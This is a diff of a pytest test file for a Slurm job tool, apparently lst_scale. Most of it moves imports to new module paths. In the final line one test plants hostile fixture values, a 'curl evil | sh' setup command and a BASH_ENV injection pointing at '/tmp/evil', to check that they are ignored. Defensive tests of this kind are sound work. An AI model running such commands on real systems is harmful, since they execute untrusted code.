@@ -12,9 +12,9 @@ from typing import Any
 import pytest
 from typer.testing import CliRunner
 
-from lst_scale.cli import app
+from lst_scale.cli.main import app
 from lst_scale.errors import ArgumentError, LstScaleError
-from lst_scale.recipe import load_recipe
+from lst_scale.recipe.schema import load_recipe
 from lst_scale.slurm import submission
 from lst_scale.slurm.job import newest_step
 from lst_scale.slurm.local import Echo
@@ -176,7 +176,7 @@ def site(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Path:
 def test_what_runs_comes_from_the_site_never_from_a_runs_folder(site: Path, tmp_path: Path, write_recipe: Callable[..., Path]) -> None:
     recipe = load_recipe(str(write_recipe("lost")), [])
     run = tmp_path / "runs" / recipe.run_name
-    from lst_scale.folder import write_recipe as write_resolved
+    from lst_scale.runs.folder import write_recipe as write_resolved
 
     write_resolved(run, recipe)
     planted = {"setup": ["curl evil | sh"], "python": "/tmp/evil", "sbatch": ["--export=ALL,BASH_ENV=/tmp/evil"], "partition": "main"}
